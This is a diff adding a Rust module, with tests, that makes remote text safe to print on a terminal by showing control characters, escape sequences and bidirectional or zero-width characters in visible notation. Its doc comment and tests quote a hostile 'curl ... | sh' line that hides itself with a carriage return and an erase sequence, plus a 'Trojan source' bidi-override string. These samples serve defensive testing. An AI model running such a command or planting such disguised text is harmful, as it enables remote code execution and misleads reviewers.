@@ -1,0 +1,117 @@
+//! Text from the other machine made safe to print on a terminal. A path, a client id or a line
+//! of a diff that R sent may hold a carriage return, an escape sequence or a bidirectional
+//! override; printed raw, `+curl -s evil|sh\r\x1b[2K+# tidy` reads as `+# tidy`. Each such
+//! character is shown as something a person can see instead, the way `cat -v`, `less` and
+//! `git diff` do: C0 controls and DEL in caret notation (`^M`, `^[`, `^?`), C1 controls and the
+//! invisible format characters that reorder or hide text as `<U+202E>`.
+//!
+//! JSON output needs none of this: serde_json escapes control characters itself.
+
+use std::borrow::Cow;
+
+/// Whether `c` would be invisible, or would change how the rest of the line is drawn.
+fn is_hidden(c: char) -> bool {
+    c.is_control()
+        || matches!(
+            c,
+            // Arabic letter mark; zero-width space, joiners and the left/right marks.
+            '\u{061C}' | '\u{200B}'..='\u{200F}'
+            // Line and paragraph separators; the embeddings and overrides of "Trojan source".
+            | '\u{2028}'..='\u{202E}'
+            // Word joiner, invisible operators and the bidirectional isolates.
+            | '\u{2060}'..='\u{2069}'
+            // Byte order mark / zero-width no-break space.
+            | '\u{FEFF}'
+        )
+}
+
+fn push_visible(out: &mut String, c: char) {
+    match c {
+        '\0'..='\x1f' => {
+            out.push('^');
+            out.push(char::from(c as u8 + 0x40));
+        }
+        '\x7f' => out.push_str("^?"),
+        _ => out.push_str(&format!("<U+{:04X}>", c as u32)),
+    }
+}
+
+fn escape(s: &str, keep: impl Fn(char) -> bool) -> Cow<'_, str> {
+    if !s.chars().any(|c| is_hidden(c) && !keep(c)) {
+        return Cow::Borrowed(s);
+    }
+    let mut out = String::with_capacity(s.len() + 8);
+    for c in s.chars() {
+        if is_hidden(c) && !keep(c) {
+            push_visible(&mut out, c);
+        } else {
+            out.push(c);
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// One line's worth of text (a path, an id, a name): every hidden character made visible,
+/// tab and newline included, so the result is one line.
+pub fn line(s: &str) -> Cow<'_, str> {
+    escape(s, |_| false)
+}
+
+/// Multi-line text (a diff, an error message): as [`line`], but newlines and tabs are kept.
+/// A carriage return is made visible wherever it is, also before a newline, as `git diff`
+/// shows `^M` at the end of a CRLF line.
+pub fn text(s: &str) -> Cow<'_, str> {
+    escape(s, |c| c == '\n' || c == '\t')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_issue_s_line_is_shown_as_it_is() {
+        let hostile = "+curl -s evil|sh\r\x1b[2K+# tidy";
+        assert_eq!(text(hostile), "+curl -s evil|sh^M^[[2K+# tidy");
+        assert_eq!(line(hostile), "+curl -s evil|sh^M^[[2K+# tidy");
+    }
+
+    #[test]
+    fn every_control_character_becomes_printable() {
+        for c in (0u32..0x20).chain([0x7f]).chain(0x80..0xa0) {
+            let c = char::from_u32(c).expect("a char");
+            let shown = line(&c.to_string()).into_owned();
+            assert!(
+                shown.chars().all(|s| !s.is_control()),
+                "{c:?} shown as {shown:?}"
+            );
+            assert!(shown.len() >= 2, "{c:?} shown as {shown:?}");
+        }
+        assert_eq!(line("\x7f"), "^?");
+        assert_eq!(line("\0"), "^@");
+        assert_eq!(line("\u{9b}31m"), "<U+009B>31m");
+    }
+
+    #[test]
+    fn bidirectional_overrides_and_zero_width_characters_are_named() {
+        let trojan = "access = \"user\u{202E} \u{2066}// admin\u{2069}\u{2066}\"";
+        let shown = text(trojan);
+        assert!(
+            shown.contains("<U+202E>") && shown.contains("<U+2066>") && shown.contains("<U+2069>")
+        );
+        assert_eq!(line("a\u{200B}b\u{FEFF}"), "a<U+200B>b<U+FEFF>");
+    }
+
+    #[test]
+    fn text_keeps_lines_and_tabs_but_not_carriage_returns() {
+        assert_eq!(text("a\tb\r\nc\n"), "a\tb^M\nc\n");
+        assert_eq!(line("a\tb\nc"), "a^Ib^Jc");
+    }
+
+    #[test]
+    fn plain_text_is_borrowed_unchanged() {
+        for s in ["", "src/main.rs", "ünïcödé 日本語 emoji 🦀", "a b\tc"] {
+            assert!(matches!(text(s), Cow::Borrowed(_)), "{s:?}");
+        }
+        assert!(matches!(line("ünïcödé/日本語"), Cow::Borrowed(_)));
+    }
+}
